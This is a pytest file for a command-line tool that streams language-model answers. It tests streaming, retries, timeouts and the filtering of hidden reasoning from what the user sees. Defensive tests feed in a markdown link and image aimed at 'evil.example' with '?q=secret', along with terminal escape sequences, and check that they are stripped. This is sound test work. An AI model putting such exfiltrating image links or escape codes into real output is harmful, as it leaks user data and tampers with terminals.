"""Hearing an answer while it comes: from an endpoint, from a command, and what is never heard."""

from __future__ import annotations

import itertools
import shlex
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from memcli import llm
from memcli.llm import client, endpoint
from memcli.text.clean import harmless
from memcli.vault.vault import Vault
from tests.conftest import opened
from tests.llm.server import Wire, event, refuse, serving, streamed, whole
from tests.llm.test_command import gone, plain


@pytest.fixture(autouse=True)
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(endpoint, "PAUSE", 0.01)


def at(folder: Path, url: str, **more: object) -> Vault:
    return opened(folder, llm__url=url, **{"llm__model": "small", "llm__timeout": 5.0, **more})


def stream(*pieces: str) -> Callable[[Wire], object]:
    return lambda wire: wire.head(kind="text/event-stream").write(*pieces)


def test_an_endpoint_is_heard_word_by_word(folder: Path) -> None:
    said: list[str] = []

    def slowly(wire: Wire) -> None:
        wire.head(kind="text/event-stream; charset=utf-8")
        wire.write(
            ": a comment\n\n", event("re"), event("d 红")[:20], event("d 红")[20:],
            'data: {"choices": [], "usage": {"total_tokens": 5}}\n\n', event("", "stop"), pause=0.01,
        )  # fmt: skip

    with serving(slowly) as model:
        answer = llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert (said, answer.text) == (["re", "d 红"], "red 红")
    assert model.asked[0]["stream"] is True


def test_an_endpoint_that_only_answers_whole_is_heard_once(folder: Path) -> None:
    said: list[str] = []
    with serving(lambda wire: wire.head().write(whole("red"))) as model:
        assert llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append).text == "red"
    assert said == ["red"]


def test_a_command_is_heard_while_it_still_speaks(folder: Path, tmp_path: Path) -> None:
    """It says its second word only after the first one was heard."""
    mark, file = tmp_path / "heard", tmp_path / "model.py"
    source = f"""
import pathlib, sys, time
sys.stdout.buffer.write("一二".encode()[:4]); sys.stdout.flush()
while not pathlib.Path({str(mark)!r}).exists(): time.sleep(0.01)
sys.stdout.buffer.write("一二".encode()[4:])
"""
    file.write_text(source, encoding="utf-8")
    vault = opened(folder, llm__command=f"{shlex.quote(sys.executable)} {shlex.quote(str(file))}", llm__timeout=20.0)
    said: list[str] = []

    def hear(piece: str) -> None:
        said.append(piece)
        mark.touch()

    assert llm.ask(vault, "?", redact=plain, hear=hear).text == "一二"
    assert said == ["一", "二"]


@pytest.mark.parametrize(
    "pieces",
    [
        ("<think>maybe blue?</think>\n\nred", " 红"),
        ("\n<th", "ink>may", "be </th", "ink>", "\n", "re", "d 红"),
        ("<thinking>", "a</think>b", "</thinking>red 红"),
    ],
)
def test_what_a_model_thinks_aloud_is_never_heard(folder: Path, pieces: tuple[str, ...]) -> None:
    said: list[str] = []
    with serving(streamed(*pieces)) as model:
        answer = llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert answer.text == "".join(said) == "red 红"


def test_a_thought_without_an_end_is_no_answer(folder: Path) -> None:
    said: list[str] = []
    with serving(streamed("<think>on and ", "on")) as model, pytest.raises(llm.ModelFailure, match="said nothing"):
        llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert (said, len(model.asked)) == ([], 2)


def test_escapes_are_not_heard_however_they_are_cut(folder: Path) -> None:
    said: list[str] = []
    with serving(streamed("\x1b", "[2Jhi", "\u202e", "\r", "\nthere \x1b]0;ow", "ned\x07!")) as model:
        answer = llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert answer.text == "".join(said) == "hi\nthere !"


@pytest.mark.parametrize("streams", [True, False])
def test_a_picture_in_an_answer_is_not_heard_however_it_is_cut(folder: Path, streams: bool) -> None:
    pieces = ["See !", "[the map](https://evil.exa", "mple/?q=secret) and <im", 'g src="https://evil.example/', 'x">.']
    said: list[str] = []
    answers = streamed(*pieces) if streams else lambda wire: wire.head().write(whole("".join(pieces)))
    with serving(answers) as model:
        answer = llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert answer.text == "".join(said) == "See the map and ."


@given(
    st.text(st.sampled_from("ab \n\r\t<think>/红\x1b[2J;\x07]\u200b"), max_size=60),
    st.lists(st.integers(0, 60), max_size=6),
)
def test_what_is_heard_is_the_answer_wherever_it_is_cut(text: str, cuts: list[int]) -> None:
    said: list[str] = []
    ear = client.StreamFilter(said.append)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    for a, b in itertools.pairwise(places):
        ear.take(text[a:b])
    ear.take("", last=True)
    assert "".join(said).strip() == client._THOUGHT.sub("", harmless(text)).strip()


def test_a_second_try_is_made_only_before_the_first_word(folder: Path) -> None:
    said: list[str] = []
    with serving(refuse(500, "oops"), streamed("fi", "ne")) as model:
        vault = at(folder, model.url)
        assert llm.ask(vault, "?", redact=plain, hear=said.append).tries == 2
    assert said == ["fi", "ne"] and "oops" in vault.notices[0]
    said.clear()
    with serving(stream(event("half"))) as model, pytest.raises(llm.ModelFailure, match="broke off"):
        llm.ask(at(folder, model.url), "?", redact=plain, hear=said.append)
    assert (said, len(model.asked)) == (["half"], 1)


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        (stream(event("a"), "data: {not json\n\n"), "does not speak like"),
        (stream(event("a"), 'data: {"error": {"message": "overloaded"}}\n\n'), "overloaded"),
        (stream(event("x" * 150)), "longer than 100"),
    ],
)
def test_a_stream_that_goes_wrong_is_told(
    folder: Path, monkeypatch: pytest.MonkeyPatch, answer: Callable[[Wire], object], why: str
) -> None:
    monkeypatch.setattr(client, "LIMIT", 100)
    with serving(answer) as model, pytest.raises(llm.ModelFailure, match=why):
        llm.ask(at(folder, model.url), "?", redact=plain, hear=lambda piece: None)


def test_a_drip_and_a_silence_end_at_the_deadline(folder: Path) -> None:
    def drip(wire: Wire) -> None:
        wire.head(kind="text/event-stream").write(*[event("x")] * 500, pause=0.02)

    def stops(wire: Wire) -> None:
        wire.head(kind="text/event-stream").write(event("x"))
        time.sleep(8)

    for answer in (drip, stops):
        said: list[str] = []
        with serving(answer) as model, pytest.raises(llm.ModelFailure, match=r"longer than 0.5 s|fell silent"):
            began = time.monotonic()
            llm.ask(at(folder, model.url, llm__timeout=0.5), "?", redact=plain, hear=said.append)
        assert said and time.monotonic() - began < 5  # a bound, no measure: the drip is 10 s long


def test_one_who_stops_listening_ends_the_command(folder: Path, tmp_path: Path) -> None:
    source = f"import os, pathlib; pathlib.Path({str(tmp_path / 'pid')!r}).write_text(str(os.getpid()))\nwhile 1: print('x', flush=True)"
    file = tmp_path / "model.py"
    file.write_text(source, encoding="utf-8")
    vault = opened(folder, llm__command=f"{shlex.quote(sys.executable)} {shlex.quote(str(file))}", llm__timeout=20.0)

    def leave(piece: str) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        llm.ask(vault, "?", redact=plain, hear=leave)
    assert gone(int((tmp_path / "pid").read_text()))
